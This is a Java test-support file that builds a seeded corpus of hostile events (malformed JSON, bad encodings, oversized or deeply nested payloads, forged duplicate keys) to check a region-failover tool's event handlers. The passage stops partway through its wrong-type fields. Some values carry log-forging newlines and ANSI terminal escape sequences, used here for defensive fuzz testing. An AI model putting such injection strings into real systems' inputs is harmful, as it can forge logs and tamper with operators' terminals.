package dev.regionfailover.hostile;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Collections;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Random;
import java.util.Set;
import java.util.TreeSet;
import java.util.function.Consumer;
import java.util.stream.Stream;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;

import dev.regionfailover.tools.ProjectRoot;

/**
 * A deterministic corpus of hostile events, built from the project's own sample events ({@code events/}) and AWS's
 * real payloads ({@code ../shared/aws-events/}): malformed, oversized, truncated, wrong-typed, unknown-source,
 * unauthorised and injection-style. Every case is run through every handler.
 *
 * <p>Most cases must be answered REJECTED or IGNORED by every handler with no AWS call at all. A few are hostile yet
 * <em>valid</em> for one handler (a schedule tick whose {@code id} is an injection string is still a schedule tick);
 * those carry a {@link Valid} expectation for that handler: the outcomes it may answer and the only mutating AWS
 * calls it may make. The corpus never holds an event that would order a real failover if the handler were correct:
 * operator events that pass authorisation are all dry runs, and {@code "dryRun": null} is refused by the parser.
 *
 * <p>No randomness but a {@link Random} with the fixed {@link #SEED}: two builds give byte-identical corpora.
 */
public final class HostileCorpus {

    public static final String ALARM = "alarm";
    public static final String HEALTH_CHECK = "health-check";
    public static final String MANUAL_FAILOVER = "manual-failover";
    public static final String RDS_EVENT = "rds-event";
    public static final List<String> HANDLERS = List.of(ALARM, HEALTH_CHECK, MANUAL_FAILOVER, RDS_EVENT);

    public static final long SEED = 20261122L;
    /** EventIo's bound (EventBridge's own limit on an event). */
    public static final int MAX_EVENT_BYTES = 256 * 1024;
    /** The plan the emulator topology seeds ({@code Topology.PLAN}); one of its watched alarms. */
    static final String WATCHED_ALARM = "orders-db-primary-availability";
    static final String UNWATCHED_ALARM = "hostile-unwatched-alarm";

    public enum Category {
        MALFORMED, OVERSIZED, WRONG_TYPE, UNKNOWN_SOURCE, UNAUTHORISED, INJECTION
    }

    /**
     * A hostile event that a handler may nevertheless act on: the outcomes it may answer and the mutating AWS calls
     * ({@code Service:Operation}, as {@code AwsCallRecorder} names them) it is allowed to make.
     */
    public record Valid(Set<String> outcomes, Set<String> allowedMutatingCalls, String why) {
    }

    /**
     * A schedule tick evaluates health and readiness: the hysteresis counter ({@code HEALTH}, DynamoDB UpdateItem),
     * the verdict metrics (CloudWatch PutMetricData) and the readiness document ({@code READINESS}, DynamoDB
     * UpdateItem; PutItem is allowed as the other way to write a journal item). Nothing that moves a database, DNS
     * or notifies anyone (readiness stays true in the seeded world).
     */
    public static final Valid SCHEDULE_TICK = new Valid(Set.of("EVALUATED"),
            Set.of("DynamoDb:UpdateItem", "DynamoDb:PutItem", "CloudWatch:PutMetricData"),
            "a schedule tick with hostile but well-typed envelope fields is still a schedule tick");
    /** An authorised dry run plans every step and changes nothing (ManualFailoverIT). */
    public static final Valid DRY_RUN = new Valid(Set.of("DRY_RUN"), Set.of(),
            "an authorised dry run with hostile but well-typed text is still a dry run");
    /** A global-failover outcome event with no run in progress resumes nothing (AuroraRdsEventIT). */
    public static final Valid NOTHING_TO_RESUME = new Valid(Set.of("NOTHING_TO_RESUME"), Set.of(),
            "an RDS global-failover outcome event with hostile text while no failover runs");
    /**
     * A watched alarm entering ALARM is evaluated: the evaluation is counted in the HEALTH item (DynamoDB
     * UpdateItem). In the seeded world one alarm is 1 of 3 signals, below the quorum of 2: EVALUATED, no failover.
     */
    public static final Valid WATCHED_ALARM_EVALUATED = new Valid(Set.of("EVALUATED"), Set.of("DynamoDb:UpdateItem"),
            "a watched alarm entering ALARM with a hostile state reason is evaluated (one signal, below quorum)");

    public record Case(String name, Category category, byte[] event, Map<String, Valid> valid) {

        public Optional<Valid> validFor(String handler) {
            return Optional.ofNullable(valid.get(handler));
        }

        @Override
        public String toString() {
            return name;
        }
    }

    private static final ObjectMapper MAPPER = new ObjectMapper();
    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
    private static final byte[] UTF8_BOM = { (byte) 0xEF, (byte) 0xBB, (byte) 0xBF };
    private static List<Case> corpus;

    private final Map<String, Case> cases = new LinkedHashMap<>();
    private final Random random = new Random(SEED);

    private HostileCorpus() {
    }

    /** The corpus, built once per JVM (class loader). */
    public static synchronized List<Case> cases() {
        if (corpus == null) {
            corpus = build();
        }
        return corpus;
    }

    public static Case byName(String name) {
        return cases().stream().filter(c -> c.name().equals(name)).findFirst()
                .orElseThrow(() -> new IllegalArgumentException("no hostile case " + name));
    }

    public static Stream<String> names() {
        return cases().stream().map(Case::name);
    }

    /** Builds a fresh corpus (tests compare two builds to prove determinism). */
    static List<Case> build() {
        HostileCorpus builder = new HostileCorpus();
        builder.malformed();
        builder.truncations();
        builder.oversized();
        builder.wrongTypes();
        builder.unknownSources();
        builder.unauthorised();
        builder.injections();
        return List.copyOf(builder.cases.values());
    }

    // ---------------------------------------------------------------------------------------------------------------
    // Base events

    private static Path root() {
        return ProjectRoot.find();
    }

    static Path sharedEvents() {
        Path dir = root().resolve("../shared/aws-events").normalize();
        if (!Files.isDirectory(dir)) {
            throw new IllegalStateException("the shared AWS event corpus is missing: expected it at " + dir);
        }
        return dir;
    }

    /** Every sample event: ours first, then AWS's, each sorted by name. Keys: "events/x.json", "aws-events/x.json". */
    static Map<String, byte[]> sampleEvents() {
        Map<String, byte[]> files = new LinkedHashMap<>();
        list(root().resolve("events")).forEach(p -> files.put("events/" + p.getFileName(), readBytes(p)));
        list(sharedEvents()).forEach(p -> files.put("aws-events/" + p.getFileName(), readBytes(p)));
        return files;
    }

    private static List<Path> list(Path dir) {
        try (Stream<Path> listing = Files.list(dir)) {
            return listing.filter(p -> p.getFileName().toString().endsWith(".json")).sorted().toList();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static byte[] readBytes(Path file) {
        try {
            return Files.readAllBytes(file);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static String text(String sample) {
        Path file = sample.startsWith("aws-events/") ? sharedEvents().resolve(sample.substring("aws-events/".length()))
                : root().resolve(sample);
        return new String(readBytes(file), StandardCharsets.UTF_8);
    }

    private static ObjectNode tree(String sample) {
        try {
            return (ObjectNode) MAPPER.readTree(text(sample));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    // The bases the structured mutations start from. Each is chosen so that an unmutated field can never make the
    // event one a handler would act on in a way that moves anything.

    /** A watched alarm entering ALARM (EventBridge shape). */
    private static ObjectNode alarmEventBridgeWatched() {
        return tree("events/alarm-eventbridge.json");
    }

    /** The same shape for an alarm the plan does not watch: a correct handler answers IGNORED. */
    private static ObjectNode alarmEventBridge() {
        ObjectNode event = alarmEventBridgeWatched();
        ((ObjectNode) event.get("detail")).put("alarmName", UNWATCHED_ALARM);
        return event;
    }

    private static ObjectNode alarmLambdaAction() {
        ObjectNode event = tree("events/alarm-lambda-action.json");
        ((ObjectNode) event.get("alarmData")).put("alarmName", UNWATCHED_ALARM);
        return event;
    }

    /** AWS's SNS alarm notification (its alarm, EXAMPLE, is not watched). */
    private static ObjectNode alarmSns() {
        return tree("aws-events/sns-cloudwatch-alarm-single-metric.json");
    }

    /** An authorised dry run (never a real failover). */
    private static ObjectNode dryRun() {
        return tree("events/dry-run.json");
    }

    /** A real, unforced failover order: only ever used with a forged source, account, plan or detail-type. */
    private static ObjectNode manualFailover() {
        return tree("events/manual-failover.json");
    }

    private static ObjectNode schedule() {
        return tree("events/schedule.json");
    }

    /** RDS-EVENT-0238, global failover completed: resumes a run if one is running (none is). */
    private static ObjectNode rdsOutcome() {
        return tree("events/rds-global-failover-completed.json");
    }

    /** An RDS event that is not a global-failover outcome: IGNORED by the rds-event handler. */
    private static ObjectNode rdsOther() {
        return tree("aws-events/eb-rds-db-cluster-event-patched.json");
    }

    // ---------------------------------------------------------------------------------------------------------------
    // Adding cases

    private void add(String name, Category category, byte[] event) {
        add(name, category, event, Map.of());
    }

    private void add(String name, Category category, byte[] event, Map<String, Valid> valid) {
        if (cases.containsKey(name)) {
            throw new IllegalStateException("duplicate hostile case name " + name);
        }
        for (Case existing : cases.values()) {
            if (Arrays.equals(existing.event(), event)) {
                return; // the same bytes under another name: one case is enough
            }
        }
        cases.put(name, new Case(name, category, event, Map.copyOf(valid)));
    }

    private void add(String name, Category category, String event) {
        add(name, category, utf8(event));
    }

    private void add(String name, Category category, JsonNode event) {
        add(name, category, json(event));
    }

    private void add(String name, Category category, JsonNode event, Map<String, Valid> valid) {
        add(name, category, json(event), valid);
    }

    private static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] json(JsonNode node) {
        try {
            return MAPPER.writeValueAsBytes(node);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static String jsonText(JsonNode node) {
        return new String(json(node), StandardCharsets.UTF_8);
    }

    private static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] part : parts) {
            out.writeBytes(part);
        }
        return out.toByteArray();
    }

    private static byte[] bytes(int... values) {
        byte[] result = new byte[values.length];
        for (int i = 0; i < values.length; i++) {
            result[i] = (byte) values[i];
        }
        return result;
    }

    /** Replaces the first occurrence of a marker string in the UTF-8 encoding of an event by raw bytes. */
    private static byte[] splice(String event, String marker, byte[] replacement) {
        int at = event.indexOf(marker);
        if (at < 0) {
            throw new IllegalArgumentException("marker " + marker + " not in event");
        }
        return concat(utf8(event.substring(0, at)), replacement, utf8(event.substring(at + marker.length())));
    }

    /** Sets a value at a dotted path ({@code detail.state.value}, {@code Records.0.EventSource}). */
    static ObjectNode with(ObjectNode event, String path, JsonNode value) {
        String[] parts = path.split("\\.");
        JsonNode parent = event;
        for (int i = 0; i < parts.length - 1; i++) {
            parent = parent.isArray() ? parent.get(Integer.parseInt(parts[i])) : parent.get(parts[i]);
            if (parent == null) {
                throw new IllegalArgumentException("no " + path + " in the base event");
            }
        }
        String last = parts[parts.length - 1];
        if (parent.isArray()) {
            ((ArrayNode) parent).set(Integer.parseInt(last), value);
        } else {
            ((ObjectNode) parent).set(last, value);
        }
        return event;
    }

    static ObjectNode with(ObjectNode event, String path, String value) {
        return with(event, path, NODES.textNode(value));
    }

    /** Sets a field of the alarm notification that an SNS record carries as a JSON string. */
    private static ObjectNode withSnsMessageField(ObjectNode event, String field, JsonNode value) {
        ObjectNode sns = (ObjectNode) event.get("Records").get(0).get("Sns");
        try {
            ObjectNode message = (ObjectNode) MAPPER.readTree(sns.get("Message").asText());
            message.set(field, value);
            sns.put("Message", jsonText(message));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return event;
    }

    private static ObjectNode apply(ObjectNode event, Consumer<ObjectNode> change) {
        change.accept(event);
        return event;
    }

    private static String nested(String open, String close, int depth, String inner) {
        return open.repeat(depth) + inner + close.repeat(depth);
    }

    private static String nestedObjects(int depth) {
        return "{\"a\":".repeat(depth) + "1" + "}".repeat(depth);
    }

    /** Pads an event with spaces before its final brace to exactly {@code size} bytes. */
    private static byte[] paddedTo(byte[] event, int size) {
        String text = new String(event, StandardCharsets.UTF_8).stripTrailing();
        int close = text.lastIndexOf('}');
        byte[] head = utf8(text.substring(0, close));
        byte[] tail = utf8(text.substring(close));
        int padding = size - head.length - tail.length;
        if (padding < 0) {
            throw new IllegalArgumentException("event already larger than " + size);
        }
        byte[] spaces = new byte[padding];
        Arrays.fill(spaces, (byte) ' ');
        return concat(head, spaces, tail);
    }

    // ---------------------------------------------------------------------------------------------------------------
    // MALFORMED: not JSON, not an object, bad bytes

    private void malformed() {
        Category c = Category.MALFORMED;
        String dryRun = jsonText(dryRun());
        String schedule = jsonText(schedule());
        String alarm = jsonText(alarmEventBridge());
        String rds = jsonText(rdsOther());

        // Not a JSON object at all.
        add("empty", c, new byte[0]);
        add("whitespace-only", c, " \n\t\r ");
        add("json-null", c, "null");
        add("json-true", c, "true");
        add("json-number", c, "42");
        add("json-string", c, "\"regionfailover\"");
        add("event-inside-an-array", c, "[" + dryRun + "]");
        add("event-as-a-json-string", c, MAPPER.valueToTree(dryRun).toString());
        add("plain-text", c, "FAILOVER NOW please");
        add("xml", c, "<?xml version=\"1.0\"?><event source=\"aws.events\"/>");
        add("form-encoded", c, "source=aws.events&detail-type=Scheduled+Event");
        add("yaml", c, "source: aws.events\ndetail-type: Scheduled Event\n");

        // Unbalanced or broken structure.
        add("unbalanced-open-brackets", c, "{\"detail\":[[[{\"a\":[");
        add("unbalanced-extra-close", c, "{\"source\":\"aws.events\"}}");
        add("mismatched-brackets", c, "{\"resources\":[\"a\",\"b\"}");
        add("close-before-open", c, "}{");
        add("missing-colon", c, "{\"source\" \"aws.events\", \"detail-type\": \"Scheduled Event\"}");
        add("missing-comma", c, schedule.replaceFirst(",", " "));
        add("trailing-comma", c, schedule.substring(0, schedule.length() - 1) + ",}");
        add("unterminated-string", c, "{\"source\":\"aws.events");
        add("single-quotes", c, dryRun.replace('"', '\''));
        add("unquoted-keys", c, "{source:\"aws.events\",detail-type:\"Scheduled Event\"}");
        add("comment", c, "{/* failover */\"source\":\"aws.events\"}");
        add("line-comment", c, "// hi\n" + schedule);
        add("nan-value", c, dryRun.replace("\"force\":false", "\"force\":NaN"));
        add("infinity-value", c, dryRun.replace("\"force\":false", "\"force\":-Infinity"));
        add("leading-zero-number", c, dryRun.replace("\"force\":false", "\"force\":007"));
        add("hex-number", c, dryRun.replace("\"force\":false", "\"force\":0x1"));
        add("bad-escape", c, dryRun.replace("Quarterly", "Quar\\xterly"));
        add("short-unicode-escape", c, dryRun.replace("Quarterly", "Quar\\u12"));
        add("python-literals", c, dryRun.replace("true", "True").replace("false", "False"));

        // Trailing content after a valid event: not an event with a harmless tail.
        add("trailing-garbage", c, dryRun + " garbage");
        add("trailing-second-event", c, dryRun + dryRun);
        add("trailing-comma-after-event", c, schedule + ",");
        add("trailing-close-brace", c, schedule + "}");
        add("trailing-ansi-escape", c, concat(utf8(schedule + "\n"), bytes(0x1b), utf8("[2J")));
        add("trailing-nul", c, concat(utf8(dryRun), bytes(0)));
        add("trailing-json-array", c, schedule + "[1]");

        // Byte order marks. A UTF-8 BOM in front of a JSON text may be ignored (RFC 8259 §8.1) and Jackson does, as
        // it detects UTF-16: those events are valid ones for their handler.
        add("bom-utf8-dry-run", c, concat(UTF8_BOM, utf8(dryRun)), Map.of(MANUAL_FAILOVER, DRY_RUN));
        add("bom-utf8-schedule", c, concat(UTF8_BOM, utf8(schedule)), Map.of(HEALTH_CHECK, SCHEDULE_TICK));
        add("bom-utf8-twice", c, concat(UTF8_BOM, UTF8_BOM, utf8(schedule)));
        add("bom-utf8-inside-object", c, concat(utf8("{"), UTF8_BOM, utf8(schedule.substring(1))));
        add("bom-utf8-before-garbage", c, concat(UTF8_BOM, utf8("garbage")));
        add("bom-utf8-only", c, UTF8_BOM);
        add("bom-utf16be-with-utf8-body", c, concat(bytes(0xFE, 0xFF), utf8(schedule)));
        add("bom-utf16le-with-utf8-body", c, concat(bytes(0xFF, 0xFE), utf8(dryRun)));
        add("utf16le-dry-run", c, dryRun.getBytes(StandardCharsets.UTF_16LE), Map.of(MANUAL_FAILOVER, DRY_RUN));
        add("utf16be-schedule", c, schedule.getBytes(StandardCharsets.UTF_16BE), Map.of(HEALTH_CHECK, SCHEDULE_TICK));
        add("utf16-odd-length", c, Arrays.copyOf(schedule.getBytes(StandardCharsets.UTF_16BE),
                schedule.length() * 2 - 1));

        // Invalid UTF-8.
        add("utf8-ff-in-alarm-name", c, splice(alarm, UNWATCHED_ALARM, bytes('h', 0xFF, 'x')));
        add("utf8-lone-continuation-in-reason", c, splice(dryRun, "Quarterly", bytes('Q', 0x80, 'x')));
        add("utf8-truncated-sequence-in-schedule-id", c, splice(schedule, "d6a1f3c8", bytes(0xE2, 0x82)));
        add("utf8-encoded-surrogate-in-rds-message", c, splice(rds, "patched", bytes(0xED, 0xA0, 0x80)));
        add("utf8-five-byte-sequence", c, splice(dryRun, "alice", bytes(0xF8, 0x88, 0x80, 0x80, 0x80)));
        add("utf8-above-u10ffff", c, splice(schedule, "aws.events", bytes(0xF4, 0x90, 0x80, 0x80)));
        add("utf8-ff-at-start", c, concat(bytes(0xFF), utf8(schedule)));
        add("utf8-truncated-at-end", c, concat(utf8("{\"source\":\"aws.events"), bytes(0xE2, 0x82)));
        add("latin1-encoded-reason", c, dryRun.replace("Quarterly", "Trimestrielle: échéance")
                .getBytes(Charset.forName("ISO-8859-1")));
        // Overlong encoding of '/' (C0 AF): Jackson decodes it leniently. In an alarm name it names no watched alarm.
        add("utf8-overlong-slash-in-alarm-name", c, splice(alarm, UNWATCHED_ALARM, bytes('.', '.', 0xC0, 0xAF)));
        add("random-binary", c, randomBytes(512));
        add("random-binary-starting-with-brace", c, concat(utf8("{\""), randomBytes(256)));

        // NUL bytes.
        add("nul-only", c, bytes(0));
        add("nul-leading", c, concat(bytes(0), utf8(schedule)));
        add("nul-raw-between-tokens", c, splice(schedule, ",", bytes(',', 0)));
        add("nul-raw-in-string", c, splice(dryRun, "Quarterly", bytes('Q', 0, 'y')));
        add("nul-raw-in-key", c, splice(schedule, "\"source\"", bytes('"', 's', 0, '"')));
        add("nul-escaped-in-alarm-name", c, with(alarmEventBridge(), "detail.alarmName", WATCHED_ALARM + "\u0000"));
        add("nul-escaped-in-schedule-source", c, with(schedule(), "source", "aws.events\u0000"));

        // Raw control characters: not allowed unescaped in a JSON string, and never to be echoed.
        add("ctrl-raw-newline-in-string", c, splice(dryRun, "Quarterly", utf8("Quarterly\n2026-11-22 INFO forged")));
        add("ctrl-raw-cr-in-string", c, splice(dryRun, "Quarterly", utf8("Quarterly\rforged")));
        add("ctrl-raw-tab-in-alarm-name", c, splice(alarm, UNWATCHED_ALARM, utf8("a\tb")));
        add("ctrl-raw-esc-in-string", c, splice(schedule, "aws.events", concat(bytes(0x1b), utf8("[31maws.events"))));
        add("ctrl-raw-bell-in-key", c, splice(schedule, "\"source\"", bytes('"', 's', 7, '"')));
        add("ctrl-raw-backspace-in-rds-id", c, splice(rds, "RDS-EVENT", bytes('R', 8, 8, 8, 'X')));
        // A bare token made of identifier-ignorable control characters (ESC, BEL, BS, SO...): Jackson quotes the
        // token it could not read in its message.
        add("ctrl-esc-in-bare-token", c, concat(utf8("{\"source\": evil"), bytes(0x1b, 0x07, 0x08, 0x0e, 0x1b),
                utf8("[2J}")));
        add("ctrl-esc-bare-token-in-dry-run", c, splice(dryRun, "true", concat(utf8("tru"), bytes(0x1b, 0x7f))));
        add("ctrl-del-raw-in-alarm-name", c, splice(alarm, UNWATCHED_ALARM, bytes('a', 0x7f, 'b')));
        add("ctrl-c1-nel-raw-in-alarm-name", c, splice(alarm, UNWATCHED_ALARM, bytes('a', 0xC2, 0x85, 'b')));
        add("ctrl-c1-csi-raw-in-rds-source-identifier", c,
                splice(rds, "\"SourceIdentifier\":\"", concat(utf8("\"SourceIdentifier\":\""), bytes(0xC2, 0x9b),
                        utf8("2J"))));
        add("ctrl-u2028-raw-in-schedule-source", c, splice(schedule, "aws.events", utf8("aws.events\u2028forged")));
        add("ctrl-all-c0-escaped-in-alarm-name", c, with(alarmEventBridge(), "detail.alarmName", allControls()));

        // Duplicate keys (Jackson keeps the last): the forged value wins, and is refused.
        add("duplicate-source-last-forged", c, dryRun.replace("\"source\":\"regionfailover.operator\"",
                "\"source\":\"regionfailover.operator\",\"source\":\"evil.operator\""));
        add("duplicate-detail-type-last-unknown", c, schedule.replace("\"detail-type\":\"Scheduled Event\"",
                "\"detail-type\":\"Scheduled Event\",\"detail-type\":\"Scheduled Evil\""));
        add("duplicate-alarm-name-last-unwatched", c, jsonText(alarmEventBridgeWatched()).replace(
                "\"alarmName\":\"" + WATCHED_ALARM + "\"",
                "\"alarmName\":\"" + WATCHED_ALARM + "\",\"alarmName\":\"" + UNWATCHED_ALARM + "\""));
    }

    private static String allControls() {
        StringBuilder text = new StringBuilder("alarm");
        for (char ch = 0; ch < 0x20; ch++) {
            text.append(ch);
        }
        return text.append('\u007f').append('\u0085').append('\u009b').toString();
    }

    private byte[] randomBytes(int size) {
        byte[] bytes = new byte[size];
        random.nextBytes(bytes);
        return bytes;
    }

    // ---------------------------------------------------------------------------------------------------------------
    // MALFORMED: every sample event truncated at several offsets

    private void truncations() {
        for (Map.Entry<String, byte[]> sample : sampleEvents().entrySet()) {
            byte[] event = sample.getValue();
            int end = lastIndexOf(event, (byte) '}');
            if (end < 2) {
                throw new IllegalStateException(sample.getKey() + " is not a JSON object");
            }
            // Any strict prefix of a JSON object that stops before its closing brace is malformed.
            // Two offsets per file (one seeded-random, one just before the closing brace); over the 30 samples that
            // is some 60 distinct truncation points, from inside the first key to the last value.
            Set<Integer> offsets = new TreeSet<>(List.of(end));
            offsets.add(1 + random.nextInt(end - 1));
            String stem = sample.getKey().replaceAll("^.*/", "").replace(".json", "");
            for (int offset : offsets) {
                add("truncated-" + stem + "-at-" + offset, Category.MALFORMED, Arrays.copyOf(event, offset));
            }
        }
        // Truncated inside a multi-byte character.
        byte[] euro = utf8(jsonText(with(dryRun(), "detail.reason", "price in €€€")));
        int at = indexOf(euro, (byte) 0xE2);
        add("truncated-inside-utf8-character", Category.MALFORMED, Arrays.copyOf(euro, at + 2));
    }

    private static int lastIndexOf(byte[] bytes, byte value) {
        for (int i = bytes.length - 1; i >= 0; i--) {
            if (bytes[i] == value) {
                return i;
            }
        }
        return -1;
    }

    private static int indexOf(byte[] bytes, byte value) {
        for (int i = 0; i < bytes.length; i++) {
            if (bytes[i] == value) {
                return i;
            }
        }
        return -1;
    }

    // ---------------------------------------------------------------------------------------------------------------
    // OVERSIZED: over the limit, at the limit, huge strings, deep nesting

    private void oversized() {
        Category c = Category.OVERSIZED;
        byte[] dryRun = json(dryRun());
        add("size-exactly-256kib-dry-run", c, paddedTo(dryRun, MAX_EVENT_BYTES), Map.of(MANUAL_FAILOVER, DRY_RUN));
        add("size-256kib-plus-1-dry-run", c, paddedTo(dryRun, MAX_EVENT_BYTES + 1));
        add("size-256kib-plus-1-schedule", c, paddedTo(json(schedule()), MAX_EVENT_BYTES + 1));
        add("size-1mib-alarm", c, paddedTo(json(alarmEventBridgeWatched()), 1024 * 1024));
        add("size-2mib-rds-outcome", c, paddedTo(json(rdsOutcome()), 2 * 1024 * 1024));
        add("size-300kib-string-in-alarm-name", c, with(alarmEventBridge(), "detail.alarmName", "A".repeat(300_000)));

        // Under the limit, but huge strings where names and reasons belong.
        String huge = "H".repeat(200_000);
        add("huge-alarm-name", c, with(alarmEventBridge(), "detail.alarmName", huge));
        add("huge-lambda-action-alarm-name", c, with(alarmLambdaAction(), "alarmData.alarmName", huge));
        add("huge-sns-alarm-name", c, withSnsMessageField(alarmSns(), "AlarmName", NODES.textNode(huge)));
        add("huge-source", c, with(schedule(), "source", huge));
        add("huge-detail-type", c, with(alarmEventBridge(), "detail-type", huge));
        add("huge-operator-reason", c, with(dryRun(), "detail.reason", huge));
        add("huge-operator-requested-by", c, with(dryRun(), "detail.requestedBy", huge),
                Map.of(MANUAL_FAILOVER, DRY_RUN));
        add("huge-operator-plan", c, with(dryRun(), "detail.plan", huge));
        add("huge-operator-unknown-key", c, apply(dryRun(), e -> ((ObjectNode) e.get("detail")).put(huge, true)));
        add("huge-rds-source-identifier", c, with(rdsOther(), "detail.SourceIdentifier", huge));
        add("huge-rds-event-id", c, with(rdsOther(), "detail.EventID", huge));
        add("huge-rds-message", c, with(rdsOther(), "detail.Message", huge));
        add("huge-schedule-id", c, with(schedule(), "id", huge), Map.of(HEALTH_CHECK, SCHEDULE_TICK));
        add("huge-alarm-state-value", c, with(alarmEventBridge(), "detail.state.value", huge));
        add("huge-reason-1025-chars", c, with(dryRun(), "detail.reason", "r".repeat(1025)));
        add("huge-number", c, dryRun().toString().replace("\"force\":false", "\"force\":" + "9".repeat(5000)));
        add("huge-number-in-schedule", c, schedule().toString().replace("\"version\":\"0\"",
                "\"version\":1" + "0".repeat(2000)));
        add("many-unknown-detail-keys", c, apply(dryRun(), e -> {
            for (int i = 0; i < 15_000; i++) {
                ((ObjectNode) e.get("detail")).put("k" + i, i);
            }
        }));
        add("many-sns-records", c, apply(alarmSns(), e -> {
            ArrayNode records = (ArrayNode) e.get("Records");
            JsonNode first = records.get(0);
            for (int i = 0; i < 150; i++) {
                records.add(first.deepCopy());
            }
        }));
        add("many-resources", c, alarmEventBridge().set("resources", manyNumbers(20_000)));

        // Deep nesting. Jackson refuses documents nested deeper than StreamReadConstraints' 1000 levels with a
        // JsonProcessingException (not a StackOverflowError); 999 levels parse, and nothing may recurse over them.
        String schedule = jsonText(schedule());
        String open = schedule.substring(0, schedule.length() - 1);
        add("deep-arrays-10000", c, open + ",\"x\":" + nested("[", "]", 10_000, "") + "}");
        add("deep-objects-10000", c, open + ",\"x\":" + nestedObjects(10_000) + "}");
        add("deep-arrays-unclosed-10000", c, open + ",\"x\":" + "[".repeat(10_000));
        add("deep-objects-unclosed-10000", c, "{\"a\":".repeat(10_000));
        add("deep-arrays-100000", c, "[".repeat(100_000) + "]".repeat(100_000));
        add("deep-mixed-1001", c, open + ",\"x\":" + "[{\"a\":".repeat(500) + "[1]" + "}]".repeat(500) + "}");
        add("deep-arrays-998-in-schedule", c, open + ",\"x\":" + nested("[", "]", 998, "") + "}",
                Map.of(HEALTH_CHECK, SCHEDULE_TICK));
        add("deep-objects-997-as-operator-detail-plan", c, jsonText(dryRun()).replace("\"plan\":\"orders-db\"",
                "\"plan\":" + nestedObjects(997)));
        add("deep-arrays-998-as-alarm-name", c, jsonText(alarmEventBridge()).replace(
                "\"alarmName\":\"" + UNWATCHED_ALARM + "\"", "\"alarmName\":" + nested("[", "]", 996, "")));
        add("deep-objects-997-as-rds-message", c, jsonText(rdsOutcome()).replaceFirst("\"Message\":\"[^\"]*\"",
                "\"Message\":" + nestedObjects(997)));
        add("deep-arrays-10000-in-sns-message", c, with(alarmSns(), "Records.0.Sns.Message",
                nested("[", "]", 10_000, "")));
        add("deep-objects-999-in-sns-message", c, with(alarmSns(), "Records.0.Sns.Message", nestedObjects(999)));
    }

    private static ArrayNode manyNumbers(int count) {
        ArrayNode numbers = NODES.arrayNode();
        for (int i = 0; i < count; i++) {
            numbers.add(i);
        }
        return numbers;
    }

    private void add(String name, Category category, String event, Map<String, Valid> valid) {
        add(name, category, utf8(event), valid);
    }

    // ---------------------------------------------------------------------------------------------------------------
    // WRONG_TYPE: numbers, booleans, arrays, objects, null and "" in every field the parsers read

    /** A field a parser reads, of one base event. */
    private record Field(String shape, Base base, String path, boolean bool, boolean sns,
            Map<String, Valid> validWhenNull) {
    }

    private interface Base {
        ObjectNode get();
    }

    private static final Map<String, Valid> NONE = Map.of();

    private static List<Field> fields() {
        List<Field> fields = new ArrayList<>();
        // EventBridge alarm (unwatched name): envelope and detail.
        for (String path : List.of("id", "account", "region", "time")) {
            fields.add(new Field("alarm-eb", HostileCorpus::alarmEventBridge, path, false, false, NONE));
        }
        for (String path : List.of("source", "detail-type", "detail", "resources", "resources.0", "detail.alarmName",
                "detail.state", "detail.state.value", "detail.state.reason", "detail.state.timestamp",
                "detail.previousState", "detail.previousState.value")) {
            fields.add(new Field("alarm-eb", HostileCorpus::alarmEventBridge, path, false, false, NONE));
        }
        // The alarm's Lambda action.
        for (String path : List.of("source", "alarmArn", "accountId", "region", "time", "alarmData",
                "alarmData.alarmName", "alarmData.state", "alarmData.state.value", "alarmData.state.reason",
                "alarmData.state.timestamp", "alarmData.previousState.value")) {
            fields.add(new Field("alarm-action", HostileCorpus::alarmLambdaAction, path, false, false, NONE));
        }
        // Alarm to SNS: the record, and the notification inside its Message string.
        for (String path : List.of("Records", "Records.0", "Records.0.EventSource", "Records.0.Sns",
                "Records.0.Sns.Message")) {
            fields.add(new Field("alarm-sns", HostileCorpus::alarmSns, path, false, false, NONE));
        }
        for (String path : List.of("AlarmName", "NewStateValue", "OldStateValue", "AlarmArn", "AWSAccountId",
                "NewStateReason", "StateChangeTime")) {
            fields.add(new Field("alarm-sns-message", HostileCorpus::alarmSns, path, false, true, NONE));
        }
        // The operator's dry run. A null optional field leaves an authorised dry run; its time is not optional (an
        // order without a valid time cannot be shown to be fresh).
        Map<String, Valid> dry = Map.of(MANUAL_FAILOVER, DRY_RUN);
        for (String path : List.of("id", "region")) {
            fields.add(new Field("operator", HostileCorpus::dryRun, path, false, false, dry));
        }
        for (String path : List.of("source", "detail-type", "account", "time", "detail", "detail.reason")) {
            fields.add(new Field("operator", HostileCorpus::dryRun, path, false, false, NONE));
        }
        for (String path : List.of("detail.plan", "detail.requestedBy")) {
            fields.add(new Field("operator", HostileCorpus::dryRun, path, false, false, dry));
        }
        // The flags must be true or false: null is refused (it once meant "not a dry run").
        fields.add(new Field("operator", HostileCorpus::dryRun, "detail.dryRun", true, false, NONE));
        fields.add(new Field("operator", HostileCorpus::dryRun, "detail.force", true, false, NONE));
        // The schedule: only its envelope is read. A null optional field leaves a schedule tick.
        Map<String, Valid> tick = Map.of(HEALTH_CHECK, SCHEDULE_TICK);
        for (String path : List.of("source", "detail-type")) {
            fields.add(new Field("schedule", HostileCorpus::schedule, path, false, false, NONE));
        }
        for (String path : List.of("id", "account", "region", "time")) {
            fields.add(new Field("schedule", HostileCorpus::schedule, path, false, false, tick));
        }
